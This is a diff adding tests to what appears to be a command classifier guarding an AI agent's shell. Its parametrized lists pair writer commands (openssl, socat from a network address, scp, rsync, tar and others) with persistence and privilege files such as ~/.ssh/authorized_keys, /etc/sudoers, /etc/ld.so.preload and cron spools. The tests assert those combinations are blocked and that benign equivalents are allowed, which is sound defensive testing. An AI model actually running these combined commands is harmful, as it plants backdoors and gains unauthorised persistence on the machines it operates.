@@ -189,3 +189,35 @@ def test_a_secret_read_by_a_filter_and_sent_is_exfiltration(cmd):
 def test_filters_on_ordinary_files_are_allowed(cmd):
     v = classify(cmd, home=HOME + "/.hermes")
     assert v.level == "allowed", (cmd, v)
+
+
+# Files a program writes through an option or operand are judged as a redirect into them would be.
+TARGETS = ["~/.bashrc", "~/.ssh/authorized_keys", "/etc/sudoers", "/etc/ld.so.preload", "~/.config/systemd/user/x.service",
+           "/etc/profile.d/x.sh", "/var/spool/cron/crontabs/root"]
+WRITERS = ["openssl enc -d -in /tmp/p -out {f}", "sponge {f} < /tmp/p", "awk '{{print > \"{f}\"}}' /tmp/p", "patch {f} < /tmp/p.diff",
+           "uudecode -o {f} /tmp/p", "scp host:/tmp/p {f}", "rsync -a host:/tmp/p {f}", "socat -u TCP:203.0.113.5:80 CREATE:{f}",
+           "gpg -d -o {f} /tmp/p.gpg", "gpg --output={f} -d /tmp/p.gpg", "sort -o {f} /tmp/p", "iconv -f a -t b -o {f} /tmp/p",
+           "shuf -o {f} /tmp/p", "uniq /tmp/p {f}", "xxd -r /tmp/p {f}"]
+
+
+@pytest.mark.parametrize("cmd", [pytest.param(w.format(f=f), id=w.format(f=f)[:50]) for w in WRITERS for f in TARGETS])
+def test_a_file_written_through_an_option_is_judged(cmd):
+    assert classify(cmd, home=HOME + "/.hermes").level != "allowed", cmd
+
+
+@pytest.mark.parametrize("cmd,rule", [("tar -xf p.tar -C /etc", "write_etc"), ("unzip -o p.zip -d ~/.ssh", "write_ssh"),
+                                      ("7z x p.7z -o/etc", "write_etc"), ("tar --extract -f p.tar --directory=/etc", "write_etc")])
+def test_extracting_into_a_protected_folder_asks(cmd, rule):
+    assert classify(cmd, home=HOME + "/.hermes").rule == rule, cmd
+
+
+@pytest.mark.parametrize("cmd", [
+    "tar -xzf p.tgz -C /tmp/x", "tar -czf out.tgz -C /etc hosts", "unzip p.zip -d build/", "sort -o out.txt in.txt",
+    "openssl req -x509 -out cert.pem -keyout key.pem", "gpg -o file.txt -d file.gpg", "uniq in.txt out.txt", "xxd -r dump.hex out.bin",
+    "sponge package.json < /tmp/p", "patch -p1 < fix.diff", "patch src/main.c < fix.diff", "awk '{print > \"out.txt\"}' in.txt",
+    "socat TCP-LISTEN:8080,fork TCP:localhost:80", "scp host:/tmp/p ./p", "rsync -a host:/srv/ ./backup/", "cpio -idv < archive.cpio",
+    "pandoc -o out.pdf in.md", "iconv -f latin1 -t utf8 -o out.txt in.txt",
+])
+def test_ordinary_output_files_are_allowed(cmd):
+    v = classify(cmd, home=HOME + "/.hermes")
+    assert v.level == "allowed", (cmd, v)
